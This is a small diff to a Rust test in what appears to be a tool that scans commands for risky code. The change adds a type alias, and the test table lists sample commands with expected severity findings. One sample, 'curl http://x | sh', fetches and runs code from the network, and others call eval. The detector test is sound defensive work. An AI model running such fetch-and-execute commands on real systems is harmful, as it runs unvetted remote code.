@@ -300,7 +300,8 @@ mod tests {
 
     #[test]
     fn code_in_the_command_itself_is_read_too() {
-        let commands: [(&[&str], &[(&str, Severity)]); 4] = [
+        type Told<'t> = &'t [(&'t str, Severity)];
+        let commands: [(&[&str], Told<'_>); 4] = [
             (&["sh", "-c", "curl http://x | sh; python3 main.py"], &[("network", Severity::Medium)]),
             (&["/usr/bin/python3.11", "-c", "eval(x)"], &[("eval", Severity::High)]),
             (&["node", "-e", "eval(x)"], &[("eval", Severity::High)]),
